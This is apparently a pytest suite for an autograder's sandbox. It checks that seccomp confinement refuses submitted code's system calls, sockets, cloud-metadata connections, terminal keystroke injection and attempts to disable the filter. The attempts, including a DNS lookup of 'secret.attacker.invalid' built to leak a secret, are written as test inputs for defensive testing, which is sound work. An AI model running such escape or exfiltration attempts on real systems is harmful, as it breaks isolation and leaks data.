"""E. The kernel and the network: every system call but those that computing needs is refused."""

from __future__ import annotations

import importlib.util
import platform
import re
from pathlib import Path

import psutil
import pyseccomp
import pytest
from battery import CONFINED, GOT_IT, LOCKED, REFUSED, ROOT, TOOLS, Attempt, each, working

from autograder.engine import session_of
from autograder.isolation import ladder
from autograder.isolation.calls import EncodedCall
from autograder.submissions import Submission

NATIVE = pyseccomp.system_arch()
# What an attacker would ask of the kernel, by the number of the attack list. All are called with
# arguments of no meaning: the filter looks at the number first.
CALLS = {
    8: "ptrace",
    9: "process_vm_readv process_vm_writev",
    10: "pidfd_open pidfd_getfd pidfd_send_signal kcmp",
    49: "sendmsg sendmmsg recvmsg recvmmsg",
    70: "execve execveat",
    79: "memfd_create memfd_secret shmget shmat shmctl semget msgget mq_open pipe pipe2 "
    "remap_file_pages",
    80: "fork vfork clone clone3 setsid setpgid wait4 waitid",
    84: "creat mkdir mkdirat mknod mknodat symlink symlinkat link linkat unlink unlinkat rename"
    " renameat renameat2 rmdir truncate ftruncate fallocate chmod fchmod fchmodat chown fchown"
    " lchown fchownat utime utimes utimensat futimesat setxattr lsetxattr fsetxattr removexattr"
    " copy_file_range sendfile splice tee vmsplice sync syncfs flock",
    90: "setrlimit",
    91: "kill tkill tgkill rt_sigqueueinfo rt_tgsigqueueinfo setpriority getpriority ioprio_set"
    " sched_setaffinity sched_setparam sched_setscheduler sched_setattr nice process_madvise"
    " move_pages migrate_pages mbind set_mempolicy",
    95: "socket socketpair connect bind listen accept accept4 getsockname getpeername setsockopt"
    " getsockopt shutdown",
    97: "unshare setns mount umount2 chroot pivot_root fsopen fsconfig fsmount fspick move_mount"
    " open_tree mount_setattr setuid setgid setgroups setreuid setregid setresuid setresgid"
    " setfsuid setfsgid capset chdir fchdir",
    98: "bpf io_uring_setup io_uring_enter io_uring_register keyctl add_key request_key userfaultfd"
    " perf_event_open fanotify_init inotify_init1 seccomp prctl personality modify_ldt quotactl"
    " syslog acct swapon swapoff reboot kexec_load kexec_file_load init_module finit_module"
    " delete_module iopl ioperm clock_settime settimeofday adjtimex clock_adjtime sethostname"
    " setdomainname vhangup timer_create timerfd_create signalfd4 eventfd2 epoll_create1 io_setup"
    " name_to_handle_at open_by_handle_at lookup_dcookie landlock_create_ruleset"
    " landlock_restrict_self uselib _sysctl nfsservctl setitimer alarm pause rt_sigtimedwait"
    " rt_sigsuspend membarrier pkey_alloc pkey_mprotect mlock mlockall get_robust_list capget",
}
NUMBERS = {
    (at, name): number
    for at, names in CALLS.items()
    for name in names.split()
    # Not every architecture has them all.
    if (number := pyseccomp.resolve_syscall(NATIVE, name)) >= 0
}

ASK = (
    TOOLS
    + """
def f(number):
    return called(number, -1, -1, -1, -1, -1, -1)
"""
)


@pytest.mark.parametrize("level", CONFINED)
@pytest.mark.parametrize("name", [f"{at} {name}" for at, name in NUMBERS])
def test_refused(name, level, servers):
    at, call = name.split()
    with session_of(Submission("m", {"m": ASK}), servers[level].limits, servers[level]) as session:
        (answer,) = session.ask("m", "f", [EncodedCall.of({"number": NUMBERS[int(at), call]})])
    assert (answer.status, answer.value) == ("value", "EPERM")


def allowed():
    """The numbers that the filter lets through, as its generator names them."""
    path = ladder.FILTERS / "generate.py"
    spec = importlib.util.spec_from_file_location("generate", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    groups = (
        module.FILES,
        module.MEMORY,
        module.SIGNALS,
        module.TIME,
        module.ITSELF,
        module.CHANNEL,
    )
    return {pyseccomp.resolve_syscall(NATIVE, name) for group in groups for name in group.split()}


SOCKET = pyseccomp.resolve_syscall(NATIVE, "socket")
EVERY = (
    TOOLS
    + """
import ctypes
def f(allowed, first, last, harmless):
    if called(harmless, -1, -1, -1) != "EPERM":
        return "there is no filter; this would be dangerous"
    libc = ctypes.CDLL(None, use_errno=True)
    bad = [ctypes.c_long(-1)] * 6
    through = []
    for number in range(first, last):
        if number not in allowed:
            ctypes.set_errno(0)
            if libc.syscall(ctypes.c_long(number), *bad) != -1 or ctypes.get_errno() != errno.EPERM:
                through.append(number)
    return through
"""
)


@pytest.mark.parametrize("level", CONFINED)
def test_no_other_call_gets_through(level, servers):
    """100: what the list above has forgotten."""
    known = sorted(allowed())
    # Newer kernels do not filter uprobe and uretprobe: whoever calls them elsewhere than from the
    # kernel's own trampoline is ended by SIGILL.
    unfiltered = [335, 336] if platform.machine() == "x86_64" else []
    assert len(known) <= 80  # the surface of the kernel that is left
    call = EncodedCall.of(
        {"allowed": known + unfiltered, "first": 0, "last": 700, "harmless": SOCKET}
    )
    with session_of(
        Submission("m", {"m": EVERY}), servers[level].limits, servers[level]
    ) as session:
        (answer,) = session.ask("m", "f", [call])
    assert answer.value == []


@pytest.mark.parametrize("level", CONFINED)
def test_another_interface_to_the_same_calls_is_closed(level, servers):
    """98: on x86-64 the same calls have a second set of numbers (x32)."""
    first = 0x40000000
    call = EncodedCall.of({"allowed": [], "first": first, "last": first + 600, "harmless": SOCKET})
    with session_of(
        Submission("m", {"m": EVERY}), servers[level].limits, servers[level]
    ) as session:
        (answer,) = session.ask("m", "f", [call])
    # Refused, or the end of the process at the first of them.
    assert answer.status == "crash" or answer.value == []


NETWORK = [
    Attempt(
        (95,),
        "a connection to the machine itself",
        """
        import socket
        def f(at):
            return tried(lambda: socket.create_connection(("127.0.0.1", at["port"]), 1).close())
        """,
        REFUSED,
    ),
    Attempt(
        (95,),
        "sockets of every kind",
        """
        import socket
        KINDS = [(family, kind) for family in (1, 2, 10, 16, 17, 40) for kind in (1, 2, 3, 5)]
        def f(at):
            return [tried(lambda: socket.socket(*kind).close()) for kind in KINDS]
        """,
        REFUSED,
        works=False,
    ),
    Attempt(
        (95,),
        "a packet",
        """
        import socket
        def f(at):
            def send():
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.sendto(b"canary", ("127.0.0.1", at["datagrams"]))
            return tried(send)
        """,
        REFUSED,
    ),
    Attempt(
        (95,),
        "local sockets",
        """
        import socket
        def connect(place):
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(place)
        def f(at):
            connected = [tried(connect, place) for place in ("\\0" + at["abstract"], at["socket"])]
            return [*connected, tried(socket.socketpair)]
        """,
        REFUSED,
    ),
    Attempt(
        (95,),
        "a server",
        """
        import socket
        def f(at):
            return tried(lambda: socket.create_server(("127.0.0.1", 0)).close())
        """,
        REFUSED,
    ),
    Attempt(
        (95,),
        "the metadata of a cloud",
        """
        import socket
        def f(at):
            return [tried(lambda: socket.create_connection((host, 80), 0.2).close())
                    for host in ("169.254.169.254", "fd00:ec2::254", "100.100.100.200")]
        """,
        REFUSED,
        works=False,
    ),
    Attempt(
        (96,),
        "a secret in a question to the name server",
        """
        import socket
        def f(at):
            return [tried(socket.getaddrinfo, "secret.attacker.invalid", 80),
                    tried(socket.gethostbyname, "secret.attacker.invalid")]
        """,
        {"OSError", "EPERM", "ENOENT", "EACCES", "gaierror"},
        works=False,
    ),
    Attempt(
        (96,),
        "a page of the web",
        """
        import http.client, urllib.request
        def by_http():
            connection = http.client.HTTPConnection("127.0.0.1", AT["port"], timeout=1)
            connection.connect(); connection.close()
        def f(at):
            global AT
            AT = at
            return tried(by_http)
        """,
        REFUSED,
    ),
    Attempt(
        (95,),
        "an event loop",
        """
        import asyncio
        async def nothing(): pass
        def f(at): return tried(lambda: asyncio.run(nothing()))
        """,
        REFUSED,
    ),
    Attempt(
        (95,),
        "words on the channel to somebody else",
        """
        import socket
        def f(at):
            def send():
                libc = ctypes.CDLL(None, use_errno=True)
                address = b"\\x01\\x00\\x00" + at["abstract"].encode()
                for number in range(3, 64):
                    if libc.sendto(number, b"canary", 6, 0, address, len(address)) >= 0: return
                raise OSError(ctypes.get_errno(), "sendto")
            return tried(send)
        import ctypes
        """,
        {"EISCONN", "ENOTSOCK", "EBADF", "EOPNOTSUPP"},
        works=False,
    ),
    # --- the terminal
    Attempt(
        (99,),
        "keys typed into the terminal",
        """
        import fcntl, termios
        TIOCLINUX, TIOCSCTTY = 0x541C, 0x540E
        def f(at):
            requests = (termios.TIOCSTI, TIOCLINUX, TIOCSCTTY, termios.TIOCNOTTY, termios.FIONREAD)
            return [tried(fcntl.ioctl, n, request, b"x") for n in (0, 1, 2) for request in requests]
        """,
        REFUSED,
        works=False,
    ),
    Attempt(
        (99,),
        "a terminal",
        """
        import pty
        def f(at):
            return [tried(lambda: os.close(os.open("/dev/tty", os.O_RDWR))), tried(os.openpty),
                    tried(lambda: os.close(os.open("/dev/ptmx", os.O_RDWR)))]
        """,
        LOCKED,
        works=False,
    ),
    # --- the sandbox itself
    Attempt(
        (98,),
        "the sandbox taken down",
        """
        PR_SET_DUMPABLE, PR_SET_PDEATHSIG, PR_SET_SECCOMP, PR_CAP_AMBIENT = 4, 1, 22, 47
        def f(at):
            settings = ((PR_SET_DUMPABLE, 1), (PR_SET_PDEATHSIG, 0), (PR_SET_SECCOMP, 0),
                        (PR_CAP_AMBIENT, 4))
            found = [called(at["prctl"], *setting, 0, 0, 0) for setting in settings]
            return [*found, called(at["seccomp"], 1, 0, 0)]
        """,
        REFUSED,
        works=False,
    ),
    Attempt(
        (75, 98),
        "surviving the grader",
        'def f(at): return called(at["prctl"], 1, 0, 0, 0, 0)',
        REFUSED,
    ),
]


@pytest.fixture(scope="session")
def more():
    return {name: pyseccomp.resolve_syscall(NATIVE, name) for name in ("prctl", "seccomp")}


@each(NETWORK)
def test_denied(scenario, level, run, more):
    assert run(scenario, level, **more) <= set(scenario.ends)


@working(NETWORK)
def test_it_gets_through_without_a_sandbox(scenario, run, more, uncaged):
    assert run(scenario, "weak", **more) == {GOT_IT}


def seen_from_outside(server):
    """What the kernel says of the server and its workers, while one works."""
    tree = psutil.Process(server._process.pid)
    found = []
    for process in [tree, *tree.children(recursive=True)]:
        if "forkserver.py" in " ".join(process.cmdline()) and process.name() != "bwrap":
            text = Path(f"/proc/{process.pid}/status").read_text()
            found.append(dict(line.split(":\t", 1) for line in text.splitlines() if ":\t" in line))
    return found


@pytest.mark.parametrize("level", CONFINED)
def test_privileges_are_gone(level, servers):
    """97: no capability, no way to one, no user or group of importance; the filter is in force."""
    server = servers[level]
    with session_of(Submission("m", {"m": "def f(): return 1"}), server.limits, server) as session:
        session.ask("m", "f", [EncodedCall.of({})])
        seen = seen_from_outside(server)
    assert len(seen) == 2, seen  # the server and its worker
    for status in seen:
        for name in ("CapInh", "CapPrm", "CapEff", "CapAmb"):
            assert int(status[name], 16) == 0
        assert status["NoNewPrivs"] == "1"
        if level == "strong" and ROOT:
            (uid,) = set(status["Uid"].split())
            assert int(uid) in ladder.WORKER_UIDS
            assert set(status["Gid"].split()) == {uid}
            assert status["Groups"].split() in ([], [uid])
    assert sorted(status["Seccomp"] for status in seen) == ["0", "2"]
    assert sorted(status["Threads"] for status in seen) == ["1", "1"]


def test_without_a_sandbox_they_are_not(servers):
    """What the test above looks at is there to be seen."""
    server = servers["weak"]
    with session_of(Submission("m", {"m": "def f(): return 1"}), server.limits, server) as session:
        session.ask("m", "f", [EncodedCall.of({})])
        seen = seen_from_outside(server)
    # Neither more nor less than what the grader itself was started with.
    for name in ("NoNewPrivs", "Seccomp"):
        (own,) = re.findall(rf"^{name}:\t(\d)$", Path("/proc/self/status").read_text(), re.M)
        assert [status[name] for status in seen] == [own, own]
